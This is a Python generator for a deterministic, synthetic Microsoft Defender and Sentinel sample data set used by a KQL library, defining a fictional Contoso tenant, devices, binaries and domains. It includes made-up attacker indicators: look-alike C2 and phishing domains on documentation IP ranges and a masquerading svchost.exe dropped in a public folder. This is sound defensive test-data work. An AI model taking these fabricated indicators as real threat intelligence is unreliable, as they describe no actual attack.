#!/usr/bin/env python3
"""Generate the libkqlite sample data set (synthetic, deterministic).

    python3 tools/gen_sample.py --out DIR [--seed N] [--rows-per-table N]
                                [--now ISO8601] [--format FMT]

FMT is one of mixed (default), json, jsonl, api-json, defender-json, csv.
DIR gets the data files, NOW (the reference time), MANIFEST.tsv (file,
table, rows, format) and README.md (what is in this output).  The bundled
sample in examples/data is exactly the output of the defaults:

    python3 tools/gen_sample.py --out examples/data

Every table of data/schemas/*.json gets every column, with values of the
column's KQL type encoded as docs/CLI.md says.  Python 3.11 standard library
only; the same arguments always give byte-identical output.
"""

from __future__ import annotations

import argparse
import base64
import calendar
import csv
import hashlib
import io
import json
import random
import re
import sys
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

DEFAULT_SEED = 20251115
DEFAULT_NOW = "2025-11-15T12:00:00Z"
FORMATS = ("mixed", "json", "jsonl", "api-json", "defender-json", "csv")

TICKS = 10_000_000          # datetime resolution: 100 ns ticks per second
MINUTE = 60 * TICKS
HOUR = 60 * MINUTE
DAY = 24 * HOUR
EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)

REPO = Path(__file__).resolve().parent.parent
SCHEMA_DIR = REPO / "data" / "schemas"

TABLES = [
    "SecurityAlert", "SecurityIncident",
    "DeviceInfo", "DeviceNetworkInfo", "DeviceProcessEvents", "DeviceNetworkEvents",
    "DeviceFileEvents", "DeviceRegistryEvents", "DeviceLogonEvents", "DeviceImageLoadEvents",
    "DeviceEvents", "DeviceFileCertificateInfo",
    "EmailEvents", "EmailAttachmentInfo", "EmailPostDeliveryEvents", "EmailUrlInfo",
]

# Rows per table in the bundled sample (scenario rows included).  Tuned so the
# bundle stays under 2 MB.
BUNDLE_ROWS = {
    "SecurityAlert": 0,            # scenarios + the per-product quotas below
    "SecurityIncident": 0,         # one or more rows per alert group
    "DeviceInfo": 70,
    "DeviceNetworkInfo": 50,
    "DeviceProcessEvents": 112,
    "DeviceNetworkEvents": 92,
    "DeviceFileEvents": 55,
    "DeviceRegistryEvents": 35,
    "DeviceLogonEvents": 105,
    "DeviceImageLoadEvents": 25,
    "DeviceEvents": 78,
    "DeviceFileCertificateInfo": 35,
    "EmailEvents": 140,
    "EmailAttachmentInfo": 0,      # follows the messages of EmailEvents
    "EmailPostDeliveryEvents": 0,  # idem
    "EmailUrlInfo": 0,             # idem
}

# Filler alerts per product in the bundle (the scenarios add more).
ALERT_QUOTA = {
    "Microsoft Defender Advanced Threat Protection": 10,
    "Office 365 Advanced Threat Protection": 5,
    "Azure Advanced Threat Protection": 6,
    "Azure Security Center": 7,
    "Defender for IoT": 8,
    "Azure Sentinel": 4,
}

# ---------------------------------------------------------------------------
# time


_ISO = re.compile(
    r"^(\d{4})-(\d{2})-(\d{2})(?:[T ](\d{2}):(\d{2})(?::(\d{2})(?:\.(\d{1,7})\d*)?)?)?"
    r"(Z|[+-]\d{2}:?\d{2})?$")


def parse_iso(text: str) -> int:
    """ISO 8601 to ticks since 1970 (no zone means UTC)."""
    m = _ISO.match(text.strip())
    if not m:
        raise argparse.ArgumentTypeError(f"not an ISO 8601 datetime: {text!r}")
    y, mo, d, h, mi, s, frac, zone = m.groups()
    try:
        dt = datetime(int(y), int(mo), int(d), int(h or 0), int(mi or 0), int(s or 0))
    except ValueError as e:
        raise argparse.ArgumentTypeError(f"bad datetime {text!r}: {e}") from None
    t = calendar.timegm(dt.timetuple()) * TICKS + int((frac or "0").ljust(7, "0"))
    if zone and zone != "Z":
        sign = -1 if zone[0] == "-" else 1
        z = zone[1:].replace(":", "")
        t -= sign * (int(z[:2]) * HOUR + int(z[2:]) * MINUTE)
    return t


def _utc(t: int) -> tuple[datetime, int]:
    sec, frac = divmod(t, TICKS)
    return EPOCH + timedelta(seconds=sec), frac


def fmt_dt(t: int) -> str:
    """2025-11-03T10:15:22.1234567Z, trailing fractional zeros dropped."""
    dt, frac = _utc(t)
    s = dt.strftime("%Y-%m-%dT%H:%M:%S")
    if frac:
        s += "." + f"{frac:07d}".rstrip("0")
    return s + "Z"


def fmt_blade(t: int) -> str:
    """The Logs blade's CSV export: 2/25/2025, 9:19:25.391 AM (UTC)."""
    dt, frac = _utc(t)
    h12 = dt.hour % 12 or 12
    ampm = "AM" if dt.hour < 12 else "PM"
    return (f"{dt.month}/{dt.day}/{dt.year}, {h12}:{dt.minute:02d}:{dt.second:02d}"
            f".{frac // 10000:03d} {ampm}")


def day_floor(t: int) -> int:
    return t - t % DAY


# ---------------------------------------------------------------------------
# randomness helpers


class Rng(random.Random):
    """random.Random plus the id and pick helpers the tables need."""

    def guid(self) -> str:
        return str(uuid.UUID(int=self.getrandbits(128), version=4))

    def hexs(self, n: int, upper: bool = False) -> str:
        s = f"{self.getrandbits(4 * n):0{n}x}"
        return s.upper() if upper else s

    def chance(self, p: float) -> bool:
        return self.random() < p

    def wpick(self, items):
        """items: [(weight, value), ...]"""
        total = sum(w for w, _ in items)
        x = self.random() * total
        for w, v in items:
            x -= w
            if x < 0:
                return v
        return items[-1][1]

    def precise(self, t: int) -> int:
        """Most event times keep all 7 fractional digits; some are ms or s."""
        r = self.random()
        if r < 0.70:
            return t
        if r < 0.90:
            return t - t % 10_000
        return t - t % TICKS


def hashes(key: str) -> tuple[str, str, str]:
    b = key.encode()
    return (hashlib.md5(b).hexdigest(), hashlib.sha1(b).hexdigest(),
            hashlib.sha256(b).hexdigest())


def jtext(v) -> str:
    """Compact JSON text, as Log Analytics stores dynamic and JSON-in-string."""
    return json.dumps(v, separators=(",", ":"), ensure_ascii=False)


def b64_ps(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


# ---------------------------------------------------------------------------
# the world: tenant, people, devices, programs, network


class Account:
    def __init__(self, name, domain, sid, upn="", oid="", display="", dept=""):
        self.name, self.domain, self.sid = name, domain, sid
        self.upn, self.oid, self.display, self.dept = upn, oid, display, dept

    @property
    def email(self):
        return self.upn


PEOPLE = [  # first, last, department
    ("Amelia", "Hart", "Finance"), ("Ben", "Okafor", "Finance"), ("Chloe", "Nguyen", "HR"),
    ("Daniel", "Kowalski", "Engineering"), ("Elena", "Petrova", "Sales"),
    ("Farid", "Haddad", "Engineering"), ("Grace", "Liu", "Design"), ("Hiro", "Tanaka", "Engineering"),
    ("Isabel", "Moreno", "Sales"), ("Jonas", "Berg", "IT"), ("Kavya", "Iyer", "Finance"),
    ("Liam", "O'Connor", "Legal"), ("Maya", "Cohen", "Executive"), ("Noah", "Schmidt", "IT"),
    ("Olivia", "Brown", "Marketing"), ("Pavel", "Novak", "Engineering"),
]

# name, platform, type, ip, group, owner index (None: servers), internet facing
DEVICES = [
    ("ws-fin-042", "Windows11", "Workstation", "10.1.4.42", "Finance Workstations", 0, False),
    ("ws-fin-017", "Windows11", "Workstation", "10.1.4.17", "Finance Workstations", 1, False),
    ("ws-hr-008", "Windows10", "Workstation", "10.1.5.8", "HR Workstations", 2, False),
    ("ws-eng-103", "Windows11", "Workstation", "10.1.6.103", "Engineering Workstations", 3, False),
    ("ws-eng-131", "Windows11", "Workstation", "10.1.6.131", "Engineering Workstations", 7, False),
    ("lt-sales-221", "Windows11", "Workstation", "10.1.7.221", "Laptops", 4, False),
    ("lt-exec-001", "Windows11", "Workstation", "10.1.7.11", "Laptops", 12, False),
    ("mac-dsgn-014", "macOS", "Workstation", "10.1.8.14", "Laptops", 6, False),
    ("srv-dc-01", "WindowsServer2022", "Server", "10.1.0.10", "Tier 0 Servers", None, False),
    ("srv-file-02", "WindowsServer2019", "Server", "10.1.0.20", "Servers", None, False),
    ("srv-sql-03", "WindowsServer2022", "Server", "10.1.0.30", "Servers", None, False),
    ("srv-rds-01", "WindowsServer2022", "Server", "10.1.9.21", "DMZ Servers", None, True),
    ("web-01", "Linux", "Server", "10.1.9.11", "DMZ Servers", None, True),
]

OS_INFO = {  # platform: OSVersion, OSBuild, OSVersionInfo, OSDistribution, client version
    "Windows11": ("10.0", 22631, "23H2", "", "10.8760.22631.4391"),
    "Windows10": ("10.0", 19045, "22H2", "", "10.8760.19045.5131"),
    "WindowsServer2022": ("10.0", 20348, "21H2", "", "10.8760.20348.2849"),
    "WindowsServer2019": ("10.0", 17763, "1809", "", "10.8760.17763.6532"),
    "Linux": ("22.04", 0, "", "Ubuntu", "101.25092.0004"),
    "macOS": ("14.7", 0, "", "macOS", "101.25092.0006"),
}


class Device:
    pass


# FileName: (folder, company, description, product, version, original name,
#            size, signer type)  -- version info of the binaries we launch
W = "Microsoft Corporation"
WOS = "Microsoft\u00ae Windows\u00ae Operating System"
OFF = r"C:\Program Files\Microsoft Office\root\Office16"
EXES = {
    "explorer.exe": (r"C:\Windows", W, "Windows Explorer", WOS, "10.0.22621.4317", "EXPLORER.EXE", 5644504, "OsVendor"),
    "svchost.exe": (r"C:\Windows\System32", W, "Host Process for Windows Services", WOS, "10.0.22621.4111", "svchost.exe", 57360, "OsVendor"),
    "services.exe": (r"C:\Windows\System32", W, "Services and Controller app", WOS, "10.0.22621.4111", "services.exe", 729680, "OsVendor"),
    "winlogon.exe": (r"C:\Windows\System32", W, "Windows Logon Application", WOS, "10.0.22621.4317", "WINLOGON.EXE", 905216, "OsVendor"),
    "lsass.exe": (r"C:\Windows\System32", W, "Local Security Authority Process", WOS, "10.0.22621.4317", "lsass.exe", 84928, "OsVendor"),
    "cmd.exe": (r"C:\Windows\System32", W, "Windows Command Processor", WOS, "10.0.22621.3672", "Cmd.Exe", 323584, "OsVendor"),
    "powershell.exe": (r"C:\Windows\System32\WindowsPowerShell\v1.0", W, "Windows PowerShell", WOS, "10.0.22621.3527", "PowerShell.EXE", 455680, "OsVendor"),
    "conhost.exe": (r"C:\Windows\System32", W, "Console Window Host", WOS, "10.0.22621.4317", "CONHOST.EXE", 1044480, "OsVendor"),
    "rundll32.exe": (r"C:\Windows\System32", W, "Windows host process (Rundll32)", WOS, "10.0.22621.3527", "RUNDLL32.EXE", 71680, "OsVendor"),
    "certutil.exe": (r"C:\Windows\System32", W, "CertUtil.exe", WOS, "10.0.22621.4111", "CertUtil.exe", 1640448, "OsVendor"),
    "taskhostw.exe": (r"C:\Windows\System32", W, "Host Process for Windows Tasks", WOS, "10.0.22621.4036", "taskhostw.exe", 101376, "OsVendor"),
    "WmiPrvSE.exe": (r"C:\Windows\System32\wbem", W, "WMI Provider Host", WOS, "10.0.22621.3672", "Wmiprvse.exe", 569344, "OsVendor"),
    "SearchProtocolHost.exe": (r"C:\Windows\System32", W, "Microsoft Windows Search Protocol Host", WOS, "7.0.22621.4317", "SearchProtocolHost.exe", 438784, "OsVendor"),
    "schtasks.exe": (r"C:\Windows\System32", W, "Task Scheduler Configuration Tool", WOS, "10.0.22621.3672", "schtasks.exe", 235520, "OsVendor"),
    "whoami.exe": (r"C:\Windows\System32", W, "whoami - displays logged on user information", WOS, "10.0.22621.3672", "whoami.exe", 89600, "OsVendor"),
    "net.exe": (r"C:\Windows\System32", W, "Net Command", WOS, "10.0.22621.3672", "net.exe", 59392, "OsVendor"),
    "ipconfig.exe": (r"C:\Windows\System32", W, "IP Configuration Utility", WOS, "10.0.22621.3672", "ipconfig.exe", 35840, "OsVendor"),
    "msiexec.exe": (r"C:\Windows\System32", W, "Windows\u00ae installer", WOS, "5.0.22621.4111", "msiexec.exe", 66048, "OsVendor"),
    "notepad.exe": (r"C:\Windows\System32", W, "Notepad", WOS, "10.0.22621.3672", "NOTEPAD.EXE", 201216, "OsVendor"),
    "MsMpEng.exe": (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25090.3009-0", W, "Antimalware Service Executable", WOS, "4.18.25090.3009", "MsMpEng.exe", 133600, "Microsoft"),
    "MsSense.exe": (r"C:\Program Files\Windows Defender Advanced Threat Protection", W, "Windows Defender Advanced Threat Protection Service Executable", WOS, "10.8760.22631.4391", "MsSense.exe", 4231680, "OsVendor"),
    "SenseIR.exe": (r"C:\Program Files\Windows Defender Advanced Threat Protection", W, "Windows Defender Advanced Threat Protection Automated Investigation Executable", WOS, "10.8760.22631.4391", "SenseIR.exe", 2914304, "OsVendor"),
    "WINWORD.EXE": (OFF, W, "Microsoft Word", "Microsoft Office", "16.0.19231.20156", "WinWord.exe", 1636736, "Microsoft"),
    "EXCEL.EXE": (OFF, W, "Microsoft Excel", "Microsoft Office", "16.0.19231.20156", "Excel.exe", 71296400, "Microsoft"),
    "OUTLOOK.EXE": (OFF, W, "Microsoft Outlook", "Microsoft Office", "16.0.19231.20156", "Outlook.exe", 43907472, "Microsoft"),
    "msedge.exe": (r"C:\Program Files (x86)\Microsoft\Edge\Application", W, "Microsoft Edge", "Microsoft Edge", "142.0.3595.65", "msedge.exe", 4195880, "Microsoft"),
    "chrome.exe": (r"C:\Program Files\Google\Chrome\Application", "Google LLC", "Google Chrome", "Google Chrome", "142.0.7444.60", "chrome.exe", 3192856, "ThirdParty"),
    "ms-teams.exe": (r"C:\Program Files\WindowsApps\MSTeams_25275.2601.4002.2815_x64__8wekyb3d8bbwe", W, "Microsoft Teams", "Microsoft Teams", "25275.2601.4002.2815", "ms-teams.exe", 1061448, "Microsoft"),
    "OneDrive.exe": (r"C:\Program Files\Microsoft OneDrive", W, "Microsoft OneDrive", "Microsoft OneDrive", "25.189.0928.0003", "OneDrive.exe", 3721560, "Microsoft"),
    "git.exe": (r"C:\Program Files\Git\mingw64\bin", "The Git Development Community", "Git for Windows", "Git", "2.51.1.1", "git.exe", 4657416, "ThirdParty"),
    "Code.exe": (r"C:\Program Files\Microsoft VS Code", W, "Visual Studio Code", "Visual Studio Code", "1.105.1", "electron.exe", 182045528, "Microsoft"),
    "python.exe": (r"C:\Program Files\Python312", "Python Software Foundation", "Python", "Python", "3.12.10", "python.exe", 103192, "ThirdParty"),
    "sqlservr.exe": (r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn", W, "SQL Server Windows NT - 64 Bit", "Microsoft SQL Server", "2022.160.4185.3", "SQLSERVR.EXE", 589712, "Microsoft"),
    "Acrobat.exe": (r"C:\Program Files\Adobe\Acrobat DC\Acrobat", "Adobe Inc.", "Adobe Acrobat", "Adobe Acrobat", "25.1.20756.0", "Acrobat.exe", 6907912, "ThirdParty"),
    "mstsc.exe": (r"C:\Windows\System32", W, "Remote Desktop Connection", WOS, "10.0.22621.4317", "mstsc.exe", 1373184, "OsVendor"),
    "dsac.exe": (r"C:\Windows\System32", W, "Active Directory Administrative Center", WOS, "10.0.20348.1", "DSAC.exe", 24576, "OsVendor"),
    "ntdsutil.exe": (r"C:\Windows\System32", W, "NT5DS", WOS, "10.0.20348.2849", "ntdsutil.exe", 437760, "OsVendor"),
    # Linux / macOS (no version resource)
    "bash": ("/usr/bin", "", "", "", "", "", 1396520, "None"),
    "sshd": ("/usr/sbin", "", "", "", "", "", 921416, "None"),
    "curl": ("/usr/bin", "", "", "", "", "", 260328, "None"),
    "python3.12": ("/usr/bin", "", "", "", "", "", 8021824, "None"),
    "nginx": ("/usr/sbin", "", "", "", "", "", 1219424, "None"),
    "cron": ("/usr/sbin", "", "", "", "", "", 55944, "None"),
    "mdatp_audisp_plugin": ("/opt/microsoft/mdatp/sbin", "", "", "", "", "", 2371336, "None"),
    "launchd": ("/sbin", "", "", "", "", "", 1150656, "None"),
    "zsh": ("/bin", "", "", "", "", "", 1377600, "None"),
    "Google Chrome": ("/Applications/Google Chrome.app/Contents/MacOS", "", "", "", "", "", 190000, "None"),
    "Figma": ("/Applications/Figma.app/Contents/MacOS", "", "", "", "", "", 210000, "None"),
    # dropped by the attackers
    "svchost.exe#dropped": (r"C:\Users\Public", "", "", "", "", "", 274944, "None"),
}

# domain: (ip list, category)  -- benign destinations (real-looking public IPs)
DOMAINS = {
    "login.microsoftonline.com": ["20.190.151.67", "40.126.32.134"],
    "outlook.office365.com": ["52.97.146.162", "2603:1026:c0b:24::2"],
    "teams.microsoft.com": ["52.113.194.132"],
    "graph.microsoft.com": ["20.190.160.14"],
    "contoso.sharepoint.com": ["13.107.136.9"],
    "contoso-my.sharepoint.com": ["13.107.138.9"],
    "winatp-gw-weu.microsoft.com": ["20.50.201.195"],
    "settings-win.data.microsoft.com": ["20.42.73.24"],
    "www.bing.com": ["204.79.197.200", "2620:1ec:c11::200"],
    "www.google.com": ["142.250.185.196", "2a00:1450:4001:82a::2004"],
    "update.googleapis.com": ["142.250.74.99"],
    "github.com": ["140.82.121.4"],
    "api.github.com": ["140.82.121.6"],
    "pypi.org": ["151.101.0.223"],
    "files.pythonhosted.org": ["151.101.64.223"],
    "archive.ubuntu.com": ["91.189.91.81"],
    "www.linkedin.com": ["13.107.42.14"],
    "www.fabrikam.com": ["52.165.175.144"],
    "portal.northwindtraders.com": ["20.49.104.39"],
}
BROWSING = ["www.bing.com", "www.google.com", "github.com", "www.linkedin.com",
            "contoso.sharepoint.com", "www.fabrikam.com", "portal.northwindtraders.com",
            "outlook.office365.com", "login.microsoftonline.com"]

# The "malicious" infrastructure: look-alike domains of the fictional Contoso
# and IPs from the documentation ranges (RFC 5737), so nothing real is named.
C2_DOMAIN, C2_IP = "msoffice-cdn-update.com", "198.51.100.23"
PHISH_DOMAIN, PHISH_IP = "secure-login-contoso.com", "203.0.113.77"
PHISH_DOMAIN2, PHISH_IP2 = "contoso-sharepoint-docs.com", "203.0.113.78"
PAYLOAD_IP = "198.51.100.40"
BRUTE_IP, BRUTE_IP2 = "203.0.113.45", "198.51.100.99"
MALWARE_SENDER_DOMAIN = "fabrikam-invoices.com"

PARTNER_DOMAINS = ["fabrikam.com", "northwindtraders.com", "adventure-works.com",
                   "tailspintoys.com", "wingtiptoys.com", "litwareinc.com",
                   "woodgrovebank.com", "relecloud.com"]

# ActionType values and dll names
DLLS = [
    (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll", "powershell.exe"),
    (r"C:\Windows\System32\amsi.dll", "powershell.exe"),
    (r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Management.A#\7b4ae5b5c3f4f5a0e3fa5c1d7e8f1b2a\System.Management.Automation.ni.dll", "powershell.exe"),
    (r"C:\Windows\System32\wininet.dll", "OUTLOOK.EXE"),
    (r"C:\Windows\System32\vaultcli.dll", "msedge.exe"),
    (r"C:\Windows\System32\dbghelp.dll", "MsSense.exe"),
    (r"C:\Windows\System32\winhttp.dll", "svchost.exe"),
    (r"C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL", "WINWORD.EXE"),
    (r"C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL", "EXCEL.EXE"),
    (r"C:\Windows\System32\samlib.dll", "lsass.exe"),
]


class World:
    """Everything the tables share: ids, people, devices, time window."""

    def __init__(self, seed: int, now: int):
        self.seed, self.now = seed, now
        self.start = now - 14 * DAY
        # The empty day: the calendar day of NOW-7d joined with a NOW-aligned
        # daily bin next to it (the one giving the shorter gap, at most 36 h),
        # so that bin(t, 1d) and bin_at(t, 1d, now()) both show an empty day.
        g0 = day_floor(now - 7 * DAY)
        before = g0 - (g0 - now) % DAY          # last NOW-aligned bin start <= g0
        after = before if before == g0 else before + DAY
        self.gap_day = g0
        self.gap_bin = before if g0 - before < after - g0 else after
        self.gap = (min(g0, self.gap_bin), max(g0, self.gap_bin) + DAY)
        r = self.rng = Rng(f"{seed}:world")
        self.tenant = r.guid()
        self.subscription = r.guid()
        self.asc_subscription = r.guid()
        self.workspace_rg = "rg-sentinel-prod"
        self.workspace = "law-sentinel-prod"
        self.workspace_id = (f"/subscriptions/{self.subscription}/resourceGroups/{self.workspace_rg}"
                             f"/providers/Microsoft.OperationalInsights/workspaces/{self.workspace}")
        dom_sid = f"S-1-5-21-{r.randint(10**9, 4 * 10**9)}-{r.randint(10**9, 4 * 10**9)}-{r.randint(10**8, 4 * 10**9)}"
        self.domain_sid = dom_sid
        self.users = []
        for i, (first, last, dept) in enumerate(PEOPLE):
            sam = (first[0] + last).lower().replace("'", "")
            upn = f"{first}.{last}@contoso.com".lower().replace("'", "")
            self.users.append(Account(sam, "contoso", f"{dom_sid}-{1104 + i * 3}", upn, r.guid(),
                                      f"{first} {last}", dept))
        self.svc_backup = Account("svc-backup", "contoso", f"{dom_sid}-2117",
                                  "svc-backup@contoso.com", r.guid(), "Backup Service", "IT")
        self.svc_sql = Account("svc-sql", "contoso", f"{dom_sid}-2118",
                               "svc-sql@contoso.com", r.guid(), "SQL Service", "IT")
        self.admin = Account("adm-jberg", "contoso", f"{dom_sid}-1500",
                             "adm-jberg@contoso.com", r.guid(), "Jonas Berg (admin)", "IT")
        self.system = Account("system", "nt authority", "S-1-5-18")
        self.local_service = Account("local service", "nt authority", "S-1-5-19")
        self.network_service = Account("network service", "nt authority", "S-1-5-20")
        self.root = Account("root", "web-01", "")
        self.devices = []
        for name, plat, typ, ip, group, owner, facing in DEVICES:
            d = Device()
            d.short = name
            d.name = name if plat in ("Linux", "macOS") else f"{name}.contoso.local"
            d.id = r.hexs(40)
            d.aad_id = r.guid() if plat != "Linux" else ""
            d.object_id = r.guid() if plat != "Linux" else ""
            d.platform, d.type, d.ip, d.group = plat, typ, ip, group
            d.owner = self.users[owner] if owner is not None else None
            d.facing = facing
            d.windows = plat.startswith("Windows")
            d.server = typ == "Server"
            d.mac = "-".join(f"{b:02X}" for b in [0x00, 0x15, 0x5D] + [r.randrange(256) for _ in range(3)])
            d.public_ip = "20.61.14.%d" % r.randint(10, 200) if facing else \
                ("81.2.69.%d" % r.randint(140, 190) if not d.server else "20.61.14.5")
            d.report = r.randint(1000, 90000)
            d.logon_base = r.randint(0x10000, 0xFFFFFF)
            d.merged_from = ""
            self.devices.append(d)
        self.dev = {d.short: d for d in self.devices}
        self.exe = {}
        for n, v in EXES.items():
            folder, comp, desc, prod, ver, orig, size, signer = v
            fname = n.split("#")[0]
            md5, sha1, sha256 = hashes(f"{n}|{ver}|{size}")
            sep = "/" if folder.startswith("/") else "\\"
            self.exe[n] = dict(name=fname, folder=folder, path=folder + sep + fname if folder else "",
                               company=comp, desc=desc, product=prod, version=ver,
                               orig=orig, internal=orig.rsplit(".", 1)[0] if orig else "",
                               size=size, signer=signer, md5=md5, sha1=sha1, sha256=sha256)
        self.rows = {t: [] for t in TABLES}
        self.alerts = []        # alert "cases" for SecurityIncident grouping
        self.messages = []      # email messages, in order
        self.incident_number = 100 + r.randint(0, 300)
        self.m365_incident_id = 3000 + r.randint(0, 2000)

    # -- time ----------------------------------------------------------------
    def in_gap(self, t: int) -> bool:
        return self.gap[0] <= t < self.gap[1]

    def fix(self, t: int) -> int:
        """Move a time out of the empty day (forwards) and before NOW."""
        if self.in_gap(t):
            t += self.gap[1] - self.gap[0]
        if t >= self.now:
            t = self.now - 7 * MINUTE - t % MINUTE
        if t < self.start:
            t = self.start + t % HOUR
        return t

    def rand_time(self, rng: Rng, lo: int | None = None, hi: int | None = None,
                  office: bool = True) -> int:
        """A random time in [lo, hi) outside the gap; busier in office hours."""
        lo = self.start if lo is None else max(lo, self.start)
        hi = self.now if hi is None else min(hi, self.now)
        for _ in range(200):
            t = lo + int(rng.random() * (hi - lo))
            if self.in_gap(t):
                continue
            dt, _ = _utc(t)
            w = 1.0
            if office:
                if dt.weekday() >= 5:
                    w = 0.25
                elif not 7 <= dt.hour < 19:
                    w = 0.3
            if rng.random() < w:
                return rng.precise(t)
        return self.fix(lo)

    def next_report(self, dev: Device) -> int:
        dev.report += 1 + (dev.report * 7919) % 13
        return dev.report

    def user_of(self, dev: Device, rng: Rng) -> Account:
        if dev.owner:
            return dev.owner
        return rng.choice([self.admin, self.users[9], self.users[13]])

EXES["System"] = ("", "", "", "", "", "", 0, "None")


# ---------------------------------------------------------------------------
# processes: the subject and initiating-process columns of the Device* tables


class Proc:
    __slots__ = ("exe", "cmd", "pid", "created", "acct", "integrity", "elevation",
                 "logon", "parent_name", "parent_pid", "parent_created")


def proc(w: World, rng: Rng, dev: Device, exe_key: str, cmd: str, acct: Account, created: int,
         parent: Proc | None = None, parent_name: str | None = None, elevated: bool = False) -> Proc:
    p = Proc()
    p.exe = w.exe[exe_key]
    p.cmd, p.created, p.acct = cmd, created, acct
    if exe_key == "System":
        p.pid = 4
    elif dev.windows:
        p.pid = rng.randrange(400, 24000, 4)
    else:
        p.pid = rng.randint(300, 98000)
    if not dev.windows:
        p.integrity, p.elevation, p.logon = "", "", None
    elif acct.sid in ("S-1-5-18", "S-1-5-19", "S-1-5-20"):
        p.integrity, p.elevation = "System", "TokenElevationTypeDefault"
        p.logon = {"S-1-5-18": 999, "S-1-5-19": 997, "S-1-5-20": 996}[acct.sid]
    else:
        p.integrity = "High" if elevated else "Medium"
        p.elevation = "TokenElevationTypeFull" if elevated else "TokenElevationTypeLimited"
        p.logon = dev.logon_base + (int(acct.sid.rsplit("-", 1)[-1] or 0) * 37) % 4096
    if parent is not None:
        p.parent_name, p.parent_pid, p.parent_created = parent.exe["name"], parent.pid, parent.created
    else:
        p.parent_name = parent_name if parent_name is not None else ""
        p.parent_pid = rng.randrange(400, 9000, 4) if dev.windows else rng.randint(1, 3000)
        p.parent_created = created - rng.randint(1, 20 * 60) * TICKS - rng.randint(0, TICKS)
    return p


def initiating(p: Proc) -> dict:
    e, a = p.exe, p.acct
    signed = e["signer"] != "None"
    return {
        "InitiatingProcessAccountDomain": a.domain,
        "InitiatingProcessAccountName": a.name,
        "InitiatingProcessAccountObjectId": a.oid,
        "InitiatingProcessAccountSid": a.sid,
        "InitiatingProcessAccountUpn": a.upn,
        "InitiatingProcessCommandLine": p.cmd,
        "InitiatingProcessCreationTime": p.created,
        "InitiatingProcessFileName": e["name"],
        "InitiatingProcessFileSize": e["size"] or None,
        "InitiatingProcessFolderPath": e["path"].lower() if e["size"] else "",
        "InitiatingProcessId": p.pid,
        "InitiatingProcessIntegrityLevel": p.integrity,
        "InitiatingProcessLogonId": p.logon,
        "InitiatingProcessMD5": e["md5"] if e["size"] else "",
        "InitiatingProcessParentCreationTime": p.parent_created,
        "InitiatingProcessParentFileName": p.parent_name,
        "InitiatingProcessParentId": p.parent_pid,
        "InitiatingProcessSHA1": e["sha1"] if e["size"] else "",
        "InitiatingProcessSHA256": e["sha256"] if e["size"] else "",
        "InitiatingProcessSignatureStatus": "Valid" if signed else ("Unsigned" if e["size"] else ""),
        "InitiatingProcessSignerType": e["signer"] if signed else ("None" if e["size"] else ""),
        "InitiatingProcessTokenElevation": p.elevation,
        "InitiatingProcessVersionInfoCompanyName": e["company"],
        "InitiatingProcessVersionInfoFileDescription": e["desc"],
        "InitiatingProcessVersionInfoInternalFileName": e["internal"],
        "InitiatingProcessVersionInfoOriginalFileName": e["orig"],
        "InitiatingProcessVersionInfoProductName": e["product"],
        "InitiatingProcessVersionInfoProductVersion": e["version"],
    }


def subject(p: Proc) -> dict:
    """The created process of DeviceProcessEvents (and DeviceEvents targets)."""
    e, a = p.exe, p.acct
    return {
        "AccountDomain": a.domain, "AccountName": a.name, "AccountObjectId": a.oid,
        "AccountSid": a.sid, "AccountUpn": a.upn, "LogonId": p.logon,
        "FileName": e["name"], "FolderPath": e["path"], "FileSize": e["size"] or None,
        "MD5": e["md5"], "SHA1": e["sha1"], "SHA256": e["sha256"],
        "ProcessCommandLine": p.cmd, "ProcessCreationTime": p.created, "ProcessId": p.pid,
        "ProcessIntegrityLevel": p.integrity, "ProcessTokenElevation": p.elevation,
        "ProcessVersionInfoCompanyName": e["company"],
        "ProcessVersionInfoFileDescription": e["desc"],
        "ProcessVersionInfoInternalFileName": e["internal"],
        "ProcessVersionInfoOriginalFileName": e["orig"],
        "ProcessVersionInfoProductName": e["product"],
        "ProcessVersionInfoProductVersion": e["version"],
    }


def dev_row(w: World, table: str, dev: Device, t: int) -> dict:
    return {"Timestamp": t, "TimeGenerated": t, "DeviceId": dev.id, "DeviceName": dev.name,
            "MachineGroup": dev.group, "ReportId": w.next_report(dev), "TenantId": w.tenant,
            "SourceSystem": "Azure", "Type": table, "AppGuardContainerId": ""}


def q(path: str) -> str:
    return f'"{path}"'


def user_launch(w: World, rng: Rng, dev: Device, acct: Account, t: int):
    """(parent, child) of an ordinary process start on a device."""
    u = acct.name
    if dev.platform == "Linux":
        kind = rng.choice(["cron", "ssh", "curl", "py"])
        cron = proc(w, rng, dev, "cron", "/usr/sbin/cron -f -P", w.root, t - 9 * DAY, parent_name="systemd")
        if kind == "cron":
            return cron, proc(w, rng, dev, "bash", '/bin/sh -c "/usr/local/bin/backup-www.sh >/dev/null 2>&1"', w.root, t, cron)
        sshd = proc(w, rng, dev, "sshd", "sshd: adm-jberg [priv]", w.root, t - 40 * MINUTE, parent_name="sshd")
        if kind == "ssh":
            return sshd, proc(w, rng, dev, "bash", "-bash", w.root, t, sshd)
        sh = proc(w, rng, dev, "bash", "-bash", w.root, t - 30 * MINUTE, sshd)
        if kind == "curl":
            return sh, proc(w, rng, dev, "curl", "curl -fsS https://api.github.com/repos/contoso/web/releases/latest", w.root, t, sh)
        return sh, proc(w, rng, dev, "python3.12", "python3 /opt/contoso/web/manage.py clearsessions", w.root, t, sh)
    if dev.platform == "macOS":
        ld = proc(w, rng, dev, "launchd", "/sbin/launchd", w.root, t - 3 * DAY, parent_name="kernel_task")
        mac_user = Account(acct.name, dev.short, "", acct.upn, acct.oid)
        exe = rng.choice(["Google Chrome", "Figma", "zsh"])
        cmd = {"Google Chrome": "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
               "Figma": "/Applications/Figma.app/Contents/MacOS/Figma", "zsh": "-zsh"}[exe]
        return ld, proc(w, rng, dev, exe, cmd, mac_user, t, ld)
